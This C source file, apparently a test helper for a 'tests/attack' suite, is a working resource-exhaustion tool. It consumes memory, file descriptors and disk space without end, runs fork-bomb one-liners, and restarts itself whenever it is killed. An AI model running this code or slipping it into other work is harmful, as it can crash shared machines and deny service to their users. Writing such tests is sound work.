/* SPDX-License-Identifier: MIT */
/*
 * attack - takes what there is of one thing, and never has enough.
 *
 *     attack memory | files | crowd | disk
 *     attack bomb SHELL
 *
 * memory is allocated and touched; files are opened, by one process or (crowd)
 * by as many as that takes; disk is filled below $TMPDIR or /tmp with files;
 * bomb is the fork bomb, b(){ b|b& };b, for bash by its usual name: elsewhere
 * a function cannot be called ":". What is refused is asked for again, without
 * end, and who was ended is started again. For tests/attack, as an ordinary
 * user.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PIECE (1 << 20)
#define BOMB  "b(){ b|b& };b"
#define COLON ":(){ :|:& };:"

static void take_memory(void)
{
	for (;;) {
		char *p = malloc(PIECE);

		if (p)
			memset(p, 1, PIECE);
	}
}

/* Who has no descriptor left makes one child, which has none of them. */
static void take_files(int alone)
{
	struct rlimit most;
	pid_t child = 0;

	getrlimit(RLIMIT_NOFILE, &most);
	most.rlim_cur = most.rlim_max;
	setrlimit(RLIMIT_NOFILE, &most);
	for (;;) {
		if (open("/etc/passwd", O_RDONLY) >= 0 || errno != EMFILE)
			continue;
		if (alone || child > 0)
			continue;
		child = fork();
		for (int fd = 3; child == 0 && close(fd) == 0; fd++)
			;
	}
}

static void take_disk(void)
{
	static char piece[PIECE];
	const char *folder = getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp";
	char name[256];

	for (int i = 0;; i++) {
		int fd;

		snprintf(name, sizeof(name), "%s/fill.%d.%d", folder,
			 (int)getpid(), i);
		fd = open(name, O_WRONLY | O_CREAT, 0600);
		if (fd < 0)
			continue;
		while (write(fd, piece, sizeof(piece)) > 0)
			;
		close(fd);
	}
}

static void take_processes(const char *shell)
{
	execlp(shell, shell, "-c", strstr(shell, "bash") ? COLON : BOMB, NULL);
	_exit(127);
}

static int attack(const char *what, const char *shell)
{
	if (strcmp(what, "memory") == 0)
		take_memory();
	if (strcmp(what, "files") == 0)
		take_files(1);
	if (strcmp(what, "crowd") == 0)
		take_files(0);
	if (strcmp(what, "disk") == 0)
		take_disk();
	if (strcmp(what, "bomb") == 0)
		take_processes(shell);
	fputs("usage: attack memory|files|crowd|disk|bomb SHELL\n", stderr);
	return 2;
}

int main(int argc, char **argv)
{
	struct timespec pause = { 0, 300000000 };

	if (argc < 2)
		return attack("", "");
	for (;;) {
		pid_t pid = fork();

		if (pid == 0)
			return attack(argv[1], argc > 2 ? argv[2] : "sh");
		waitpid(pid, NULL, 0);
		nanosleep(&pause, NULL);
	}
}
